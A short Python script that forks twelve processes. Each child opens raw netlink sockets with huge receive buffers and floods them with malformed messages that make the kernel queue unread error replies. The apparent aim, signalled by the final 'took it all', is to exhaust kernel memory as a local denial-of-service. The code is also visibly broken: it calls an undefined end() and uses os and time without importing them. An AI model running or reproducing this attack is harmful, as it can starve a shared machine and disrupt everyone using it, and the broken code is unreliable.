# What the kernel answers and nobody reads.
import socket, struct
end()
refused = struct.pack('IHHII', 3000, 9999, 1 | 4, 1, 0) + b'x' * 2984
for i in range(12):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
                s.setblocking(False)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
                s.connect((0, 0))
                kept.append(s)
                for n in range(300):
                    s.send(refused)
        except OSError:
            pass
        time.sleep(60)
time.sleep(8)
print('took it all')
